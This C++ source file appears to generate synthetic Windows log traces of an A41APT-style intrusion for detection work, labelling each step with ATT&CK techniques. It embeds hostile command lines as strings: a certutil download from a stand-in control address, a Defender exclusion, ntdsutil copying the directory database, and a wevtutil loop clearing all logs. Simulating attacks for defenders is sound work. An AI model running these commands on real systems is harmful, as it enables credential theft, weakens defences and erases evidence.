// An intrusion in the manner of the A41APT campaign, as public reports describe it: no mail; a
// stolen administrator account over the affiliate's VPN; remote desktop onto servers from a machine
// whose name is foreign to the organisation; a signed program that loads the intruder's DLL; each
// infected server with its own outside address; the directory and the archives at the end; logs
// cleared. Only the traces are written: there is no program behind any of these names.

#include <fmt/format.h>

#include <array>
#include <string_view>

#include "simulate/activity.h"
#include "simulate/world.h"

namespace noroshi {
namespace {

constexpr std::string_view kSystem32 = "C:\\Windows\\System32\\";
constexpr std::string_view kVpnAddress = "10.30.0.42";  // handed out by the affiliate's gateway
constexpr std::string_view kFolder = "C:\\ProgramData\\PrintAssist\\";
constexpr std::string_view kSecondFolder = "C:\\PerfLogs\\PrintAssist\\";
constexpr std::string_view kProgram = "printassist.exe";
constexpr std::string_view kLibrary = "prnlib.dll";
// A different outside address for each infected server.
constexpr std::string_view kControlOfFirst = "203.0.113.21";
constexpr std::string_view kControlOfSecond = "198.51.100.84";

Timestamp Later(Timestamp time, std::uint64_t seconds) {
  return {time.ticks + seconds * kTicksPerSecond};
}

class Intrusion {
 public:
  explicit Intrusion(World& world)
      : world_(world),
        account_(world.organisation.affiliate_admin),
        entry_(world.LogOf(Site::kAffiliate, Role::kApplicationServer)),
        entry_controller_(world.LogOf(Site::kAffiliate, Role::kDomainController)),
        files_(world.LogOf(Site::kHeadOffice, Role::kFileServer)),
        controller_(world.LogOf(Site::kHeadOffice, Role::kDomainController)) {
    SeededRandom random = world.random.Fork("intruder");
    workstation_ = "DESKTOP-" + random.Letters("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 7);
    first_day_ = world.days / 3;
  }

  void Run() {
    GuessPassword();
    Enter();
    Download();
    Drop();
    InstallLoader();
    SideLoad();
    CallHome();
    LookAround();
    QueryDirectory();
    WeakenDefender();
    MoveToFileServer();
    StartThroughTask();
    SideLoadAgain();
    CopyDirectoryDatabase();
    PackArchives();
    ClearLogs();
  }

 private:
  Label Step(std::string_view idea, std::vector<std::string> techniques, std::string_view title) {
    TruthEntry entry;
    entry.kind = TruthKind::kAttackStep;
    entry.id = fmt::format("A{:02}", world_.truth.Count(TruthKind::kAttackStep) + 1);
    entry.idea = idea;
    entry.techniques = std::move(techniques);
    entry.title = title;
    return world_.truth.Add(std::move(entry));
  }

  // A moment of the intrusion: day 0 is its first. At night, Japanese time.
  [[nodiscard]] Timestamp Night(std::uint64_t day, unsigned hour, unsigned minute) const {
    return world_.At(Site::kHeadOffice, first_day_ + day, hour, minute);
  }

  [[nodiscard]] LogonSource Foreign() const {
    return {std::string(kVpnAddress), workstation_, true};
  }

  // A command in the shell of whoever holds `session`; programs of System32 by their bare name.
  Process Type(HostLog& log, Timestamp time, const LogonSession& session, std::string_view program,
               std::string_view arguments) {
    Process shell = SystemProcess(log, "cmd.exe");
    shell.session = session;
    const std::string image = std::string(kSystem32) + std::string(program) + ".exe";
    return StartProcess(log, time, shell, image, fmt::format("{} {}", program, arguments), session);
  }

  void GuessPassword() {
    const Label label = Step("D1-10", {"T1110"}, "Wrong passwords from the VPN pool");
    const LabelScope at_entry(entry_, label);
    const LabelScope at_controller(entry_controller_, label);
    for (unsigned i = 0; i < 3; ++i) {
      const Timestamp time = Night(0, 1, 4 + i);
      ValidateNtlm(entry_controller_, time, account_, workstation_, false);
      FailLogOn(entry_, Later(time, 1), account_, Foreign());
    }
  }

  void Enter() {
    const Label label = Step("D1-02", {"T1021.001", "T1078.002"},
                             "Remote desktop onto an affiliate's server with the stolen account, "
                             "from a workstation outside the naming scheme");
    const LabelScope at_entry(entry_, label);
    const LabelScope at_controller(entry_controller_, label);
    const Timestamp time = Night(0, 1, 9);
    ValidateNtlm(entry_controller_, time, account_, workstation_, true);
    session_ = OpenRemoteDesktop(entry_, Later(time, 1), account_, Foreign());
  }

  void Download() {
    const LabelScope scope(entry_, Step("D3-19", {"T1105"}, "certutil fetches the loader's parts"));
    const Timestamp time = Night(0, 1, 16);
    const std::string target = std::string(kFolder) + "pa.cab";
    const Process process =
        Type(entry_, time, session_, "certutil",
             fmt::format("-urlcache -split -f http://{}/pa.cab {}", kControlOfFirst, target));
    Connect(entry_, Later(time, 1), process, {std::string(kControlOfFirst), "", 80});
    WriteFile(entry_, Later(time, 2), process, target);
  }

  void Drop() {
    const LabelScope scope(entry_, Step("D1-15", {"T1036.005", "T1105"},
                                        "A signed program and the intruder's DLL appear in a new "
                                        "data folder"));
    const Timestamp time = Night(0, 1, 18);
    const Process process =
        Type(entry_, time, session_, "expand", fmt::format("{}pa.cab -F:* {}", kFolder, kFolder));
    WriteFile(entry_, Later(time, 1), process, fmt::format("{}{}", kFolder, kProgram));
    WriteFile(entry_, Later(time, 1), process, fmt::format("{}{}", kFolder, kLibrary));
  }

  void InstallLoader() {
    const LabelScope scope(entry_, Step("D2-06", {"T1543.003", "T1569.002"},
                                        "A service starts the program from the data folder"));
    InstallService(entry_, Night(0, 1, 21), session_, "Print Assist Service",
                   fmt::format("{}{}", kFolder, kProgram));
  }

  void SideLoad() {
    const LabelScope scope(entry_, Step("D2-01", {"T1574.001"},
                                        "The signed program loads the unsigned DLL beside it"));
    const Timestamp time = Night(0, 1, 22);
    const std::string image = fmt::format("{}{}", kFolder, kProgram);
    implant_ = StartProcess(entry_, time, SystemProcess(entry_, "services.exe"), image, image, {});
    LoadModule(entry_, Later(time, 1), implant_, {fmt::format("{}{}", kFolder, kLibrary), ""});
  }

  void CallHome() {
    const LabelScope scope(entry_, Step("D2-15", {"T1071.001", "T1573"},
                                        "The server talks to an address that no other host "
                                        "knows"));
    for (std::uint64_t hour = 0; hour < 48; hour += 5) {
      Connect(entry_, Later(Night(0, 1, 23), hour * 3'600 + entry_.random().Below(1'800)), implant_,
              {std::string(kControlOfFirst), "", 443});
    }
  }

  void LookAround() {
    const LabelScope scope(entry_,
                           Step("D3-11", {"T1049", "T1057", "T1087.002", "T1135"},
                                "The implant lists connections, processes, shares and accounts"));
    const std::array<std::array<std::string, 2>, 6> commands = {{
        {"netstat", "-anop tcp"},
        {"tasklist", "/v"},
        {"net", fmt::format("view \\\\{} /all", files_.host().address)},
        {"net", fmt::format("user {} /domain", account_.name)},
        {"net", "group \"domain admins\" /domain"},
        {"nslookup", "hq-dc01.hoshikawa.example"},
    }};
    for (std::size_t i = 0; i < commands.size(); ++i) {
      const auto& [program, arguments] = commands[i];
      const Timestamp time = Later(Night(1, 2, 3), i * 21);
      const Process shell = StartProcess(entry_, time, implant_, std::string(kSystem32) + "cmd.exe",
                                         fmt::format("cmd.exe /c {} {}", program, arguments), {});
      StartProcess(entry_, Later(time, 1), shell, fmt::format("{}{}.exe", kSystem32, program),
                   fmt::format("{} {}", program, arguments), {});
    }
  }

  void QueryDirectory() {
    const LabelScope scope(entry_, Step("D3-10", {"T1018", "T1087.002", "T1482"},
                                        "dsquery, nltest and csvde read the directory"));
    const Timestamp time = Night(1, 2, 12);
    Type(entry_, time, session_, "dsquery", "computer -limit 0");
    Type(entry_, Later(time, 40), session_, "nltest", "/domain_trusts /all_trusts");
    Type(entry_, Later(time, 95), session_, "csvde",
         fmt::format("-f {}u.log -r (objectClass=user)", kFolder));
  }

  void WeakenDefender() {
    const LabelScope scope(
        entry_, Step("D3-20", {"T1685"}, "The data folder is excluded from Defender's scans"));
    const Timestamp time = Night(1, 2, 20);
    Type(entry_, time, session_, "WindowsPowerShell\\v1.0\\powershell",
         "Add-MpPreference -ExclusionPath C:\\ProgramData\\PrintAssist");
    RunScript(entry_, Later(time, 1),
              "Add-MpPreference -ExclusionPath C:\\ProgramData\\PrintAssist");
    entry_.Add(CatalogEvent::kDefenderConfig, Later(time, 2),
               {{"Product Name", "%%827"},
                {"Product Version", "4.18.2009.7"},
                {"Old Value", ""},
                {"New Value",
                 "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\"
                 "C:\\ProgramData\\PrintAssist = 0x0"}});
  }

  void MoveToFileServer() {
    const Label label = Step("D3-01", {"T1021.001"},
                             "Remote desktop from the infected server to the head office's file "
                             "server");
    const LabelScope at_entry(entry_, label);
    const LabelScope at_files(files_, label);
    const Timestamp time = Night(1, 2, 41);
    UseOtherAccount(entry_, time, session_, account_, files_.host().name,
                    std::string(kSystem32) + "mstsc.exe");
    files_session_ = OpenRemoteDesktop(files_, Later(time, 4), account_,
                                       {entry_.host().address, entry_.host().name});
  }

  void StartThroughTask() {
    const LabelScope scope(files_, Step("D2-05", {"T1053.005"},
                                        "A task made from another server starts the program on the "
                                        "file server and vanishes"));
    const Timestamp time = Night(2, 1, 30);
    const Task task{"\\PrintAssist", fmt::format("{}{}", kSecondFolder, kProgram), ""};
    const LogonSession remote =
        LogOn(files_, time, account_, 3, {entry_.host().address, "-", false});
    OpenShare(files_, Later(time, 1), remote, entry_.host().address,
              {"\\\\*\\C$", fmt::format("PerfLogs\\PrintAssist\\{}", kProgram), "0x17019f", true});
    OpenShare(files_, Later(time, 20), remote, entry_.host().address,
              {"\\\\*\\IPC$", "atsvc", "0x3", true});
    CreateTask(files_, Later(time, 21), remote, task);
    RunTask(files_, Later(time, 23), task);
    DeleteTask(files_, Later(time, 80), remote, task);
  }

  void SideLoadAgain() {
    const LabelScope scope(files_, Step("D2-01", {"T1574.001", "T1071.001"},
                                        "The program loads the DLL on the file server and calls an "
                                        "address of its own"));
    const Timestamp time = Night(2, 1, 31);
    const std::string image = fmt::format("{}{}", kSecondFolder, kProgram);
    second_implant_ =
        StartProcess(files_, time, SystemProcess(files_, "svchost.exe -k netsvcs -p -s Schedule"),
                     image, image, {});
    LoadModule(files_, Later(time, 1), second_implant_,
               {fmt::format("{}{}", kSecondFolder, kLibrary), ""});
    for (std::uint64_t hour = 0; hour < 24; hour += 6) {
      Connect(files_, Later(time, 5 + hour * 3'600 + files_.random().Below(1'800)), second_implant_,
              {std::string(kControlOfSecond), "", 443});
    }
  }

  void CopyDirectoryDatabase() {
    const LabelScope scope(controller_,
                           Step("D3-08", {"T1003.003"}, "ntdsutil copies the directory database"));
    const Timestamp time = Night(2, 2, 5);
    const LogonSession session =
        OpenRemoteDesktop(controller_, time, account_, {files_.host().address, files_.host().name});
    Type(controller_, Later(time, 70), session, "ntdsutil",
         "\"ac i ntds\" \"ifm\" \"create full C:\\PerfLogs\\n\" q q");
    const std::string copy = "C:\\PerfLogs\\n\\Active Directory\\ntds.dit";
    controller_.Add(CatalogEvent::kDatabaseCreated, Later(time, 75),
                    {{"", "lsass\n612,D,0\n\n1\n" + copy + "\n0\n[1] 0.000"}});
    controller_.Add(CatalogEvent::kDatabaseDetached, Later(time, 91),
                    {{"", "lsass\n612,D,0\n\n1\n" + copy + "\n0\n[1] 0.000\n0"}});
    CloseRemoteDesktop(controller_, Later(time, 600), session, files_.host().address);
  }

  void PackArchives() {
    const LabelScope scope(files_, Step("D3-16", {"T1560.001", "T1074.001"},
                                        "Folders are packed into split archives with a password"));
    const Timestamp time = Night(3, 1, 12);
    const std::string rar = fmt::format("{}rar.exe", kSecondFolder);
    const Process process = StartProcess(
        files_, time, second_implant_, rar,
        fmt::format("{} a -r -hpQ7w2 -v200m C:\\PerfLogs\\ss.rar E:\\share\\drawings", rar), {});
    WriteFile(files_, Later(time, 30), process, "C:\\PerfLogs\\ss.part1.rar");
    CloseRemoteDesktop(files_, Later(time, 900), files_session_, entry_.host().address);
  }

  void ClearLogs() {
    const LabelScope scope(entry_, Step("D3-20", {"T1685.005"},
                                        "The entry server's Security and PowerShell logs are "
                                        "cleared"));
    const Timestamp time = Night(3, 3, 2);
    const Process shell = StartProcess(
        entry_, time, implant_, std::string(kSystem32) + "cmd.exe",
        "cmd.exe /c for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\"", {});
    constexpr Channel kCleared[] = {Channel::kSecurity, Channel::kPowerShell};
    for (std::uint64_t i = 0; i < std::size(kCleared); ++i) {
      StartProcess(entry_, Later(time, 1 + i), shell, std::string(kSystem32) + "wevtutil.exe",
                   fmt::format("wevtutil.exe cl \"{}\"", ChannelName(kCleared[i])), {});
      ClearLog(entry_, Later(time, 2 + i), session_, kCleared[i]);
    }
  }

  World& world_;
  const Account& account_;
  HostLog& entry_;             // the affiliate's application server
  HostLog& entry_controller_;  // the affiliate's domain controller
  HostLog& files_;             // the head office's file server
  HostLog& controller_;        // the head office's domain controller
  std::string workstation_;
  std::uint64_t first_day_ = 0;
  LogonSession session_;
  LogonSession files_session_;
  Process implant_;
  Process second_implant_;
};

}  // namespace

void AddA41aptIntrusion(World& world) { Intrusion(world).Run(); }

}  // namespace noroshi
